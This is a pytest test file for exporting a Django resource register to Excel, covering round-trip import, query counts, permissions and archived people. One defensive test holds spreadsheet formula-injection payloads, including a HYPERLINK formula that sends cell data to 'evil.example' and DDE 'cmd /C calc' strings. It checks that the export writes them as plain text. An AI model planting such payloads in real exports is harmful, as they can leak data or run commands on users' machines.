"""Exporting the resource register: the workbook the import reads back unchanged, text that would
run as a formula kept as text, the blank template, and a constant number of queries."""

import io
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from pmo.core import services as core_services
from pmo.core.models import AuditEvent, Person
from pmo.resourcing.exports.register import (
    FORMULA_STARTS,
    MATRIX_SHEET,
    PEOPLE_HEADERS,
    RATE_HEADERS,
    SKILL_HEADERS,
    register_template,
    register_workbook,
)
from pmo.resourcing.imports import REGISTER_COLUMNS, column_notes, import_register
from pmo.resourcing.models import Resource, ResourceRate, ResourceSkill, Skill
from pmo.resourcing.services import resources as services
from pmo.resourcing.testing import make_resource, skill

pytestmark = pytest.mark.django_db


def sheets(data: bytes) -> dict[str, list[tuple]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


def a_register(world) -> list[Resource]:
    ada = make_resource(
        world.admin,
        "Ada Lovelace",
        unit=world.unit,
        skills={"Python": 4, "SQL": 3},
        cost_per_hour=Decimal("65.50"),
        bill_rate_per_hour=Decimal("99.00"),
        employment_type="contingent",
        contract_end=date(2027, 3, 31),
        hours_per_day=Decimal("7.5"),
        weekday_hours=[7.5, 7.5, 7.5, 7.5, 4, 0, 0],
    )
    core_services.update_person(
        actor=world.admin, person=ada.person, changes={"email": "ada@example.org", "job_title": "Data engineer"}
    )
    services.add_rate(actor=world.admin, resource=ada, effective_from=date(2026, 7, 1), cost_per_hour=Decimal("70"))
    services.update_skill(
        actor=world.admin, skill=Skill.objects.get(name="SQL"), changes={"category": "Data", "description": "Queries."}
    )
    alan = make_resource(world.admin, "Alan Turing", skills={"Python": 5})
    return [ada, alan]


def test_the_export_holds_people_skills_rates_and_a_matrix(world):
    a_register(world)

    exported = sheets(register_workbook(world.admin))

    assert list(exported) == ["People", "Skills", "Rates", MATRIX_SHEET]
    assert exported["People"][0] == PEOPLE_HEADERS
    assert exported["People"][1] == (
        "Ada Lovelace",
        "ada@example.org",
        "Data engineer",
        "it",
        "contingent",
        openpyxl.utils.datetime.from_excel(46477),  # 2027-03-31
        7.5,
        "7.5, 7.5, 7.5, 7.5, 4, 0, 0",
        "Python:4; SQL:3",
    )
    assert exported["People"][2][0] == "Alan Turing" and exported["People"][2][8] == "Python:5"
    assert exported["Skills"] == [SKILL_HEADERS, ("Python", None, None), ("SQL", "Data", "Queries.")]
    assert [row[2:] for row in exported["Rates"][1:]] == [
        (openpyxl.utils.datetime.from_excel(43831), 65.5, 99),  # 2020-01-01
        (openpyxl.utils.datetime.from_excel(46204), 70, None),  # 2026-07-01
        (openpyxl.utils.datetime.from_excel(43831), 50, None),
    ]
    assert exported[MATRIX_SHEET] == [
        ("full_name", "email", "Python", "SQL"),
        ("Ada Lovelace", "ada@example.org", 4, 3),
        ("Alan Turing", None, 5, None),
    ]


def test_export_then_import_changes_nothing(world):
    a_register(world)
    exported = register_workbook(world.admin)
    events = AuditEvent.objects.count()

    report = import_register(actor=world.admin, data=exported, name="export.xlsx")

    assert report.is_valid, report.problems
    assert not report.has_changes
    assert {sheet: counts.unchanged for sheet, counts in report.counts.items()} == {
        "People": 2,
        "Skills": 2,
        "Rates": 3,
    }
    assert AuditEvent.objects.count() == events


def test_an_export_imported_into_an_empty_register_rebuilds_it(world):
    a_register(world)
    exported = register_workbook(world.admin)
    before = _register_state()
    ResourceRate.objects.all().delete()
    ResourceSkill.objects.all().delete()
    Resource.objects.all().delete()
    Person.objects.filter(full_name__in=["Ada Lovelace", "Alan Turing"]).delete()

    report = import_register(actor=world.admin, data=exported, name="export.xlsx")

    assert report.is_valid, report.problems
    assert report.counts["People"].created == 2 and report.counts["Rates"].created == 3
    assert _register_state() == before


def _register_state() -> list:
    return sorted(
        (
            resource.name,
            resource.person.email,
            resource.person.job_title,
            resource.unit_id,
            resource.employment_type,
            resource.contract_end,
            resource.hours_per_day,
            [float(hours) for hours in resource.weekday_hours],
            sorted((held.skill.name, held.level) for held in resource.skills.all()),
            sorted((r.effective_from, r.cost_per_hour, r.bill_rate_per_hour) for r in resource.rates.all()),
        )
        for resource in Resource.objects.select_related("person")
    )


def test_text_that_would_run_as_a_formula_is_written_as_text_and_read_back_as_written(world):
    dangerous = {
        "full_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "job_title": "+1+cmd|' /C calc'!A0",
        "category": "-2+3",
        "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    resource = make_resource(world.admin, dangerous["full_name"], skills={"=1+1": 2})
    core_services.update_person(
        actor=world.admin, person=resource.person, changes={"job_title": dangerous["job_title"]}
    )
    services.update_skill(
        actor=world.admin,
        skill=Skill.objects.get(name="=1+1"),
        changes={"category": dangerous["category"], "description": dangerous["description"]},
    )

    exported = register_workbook(world.admin)

    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
        parts = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in part or b"<f " in part for part in parts)
    book = openpyxl.load_workbook(io.BytesIO(exported))
    written = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    risky = [cell for cell in written if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)]
    assert {cell.value for cell in risky} >= {*dangerous.values(), "=1+1", "=1+1:2"}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
    events = AuditEvent.objects.count()
    report = import_register(actor=world.admin, data=exported, name="export.xlsx")
    assert report.is_valid and not report.has_changes, report.problems
    assert AuditEvent.objects.count() == events


def test_the_template_names_the_import_columns_and_its_example_imports(world):
    assert tuple(column.name for column in REGISTER_COLUMNS["People"]) == PEOPLE_HEADERS
    assert tuple(column.name for column in REGISTER_COLUMNS["Skills"]) == SKILL_HEADERS
    assert tuple(column.name for column in REGISTER_COLUMNS["Rates"]) == RATE_HEADERS
    template = register_template(column_notes())
    book = openpyxl.load_workbook(io.BytesIO(template))
    assert book["People"]["A1"].comment.text.startswith("The person's name")
    assert "Required." in book["People"]["A1"].comment.text

    report = import_register(actor=world.admin, data=template, name="template.xlsx")

    assert report.is_valid, report.problems
    assert [(c.created, c.updated) for c in report.counts.values()] == [(1, 0), (2, 0), (1, 0)]
    ada = Resource.objects.get(person__email="ada.lovelace@example.org")
    assert sorted(ada.skills.values_list("skill__name", "level")) == [("Python", 4), ("SQL", 3)]


def test_the_export_costs_the_same_queries_for_any_number_of_people(world):
    for index in range(2):
        make_resource(world.admin, f"Person {index}", skills={"Python": 3}, unit=world.unit)
    with CaptureQueriesContext(connection) as few:
        register_workbook(world.admin)
    for index in range(2, 12):
        make_resource(world.admin, f"Person {index}", skills={"Python": 3, f"Skill {index}": 2}, unit=world.unit)
    with CaptureQueriesContext(connection) as many:
        exported = register_workbook(world.admin)
    assert len(many) == len(few)
    assert len(sheets(exported)["People"]) == 13


def test_the_export_holds_only_what_the_user_may_see(world):
    make_resource(world.admin, "Ada Lovelace", skills={"Python": 4})
    skill(world.admin, "SQL")

    seen_by_nobody = sheets(register_workbook(world.nobody))
    seen_by_a_manager = sheets(register_workbook(world.permitted))
    seen_by_the_server_owner = sheets(register_workbook(None))

    assert [len(seen_by_nobody[name]) for name in ("People", "Skills", "Rates")] == [1, 1, 1]
    assert [len(seen_by_a_manager[name]) for name in ("People", "Skills", "Rates")] == [2, 3, 2]
    assert seen_by_the_server_owner == seen_by_a_manager


def test_archived_people_are_left_out(world):
    kept = make_resource(world.admin, "Kept")
    archived = make_resource(world.admin, "Gone")
    services.archive_resource(actor=world.admin, resource=archived)

    names = [row[0] for row in sheets(register_workbook(world.admin))["People"][1:]]

    assert names == [kept.name]
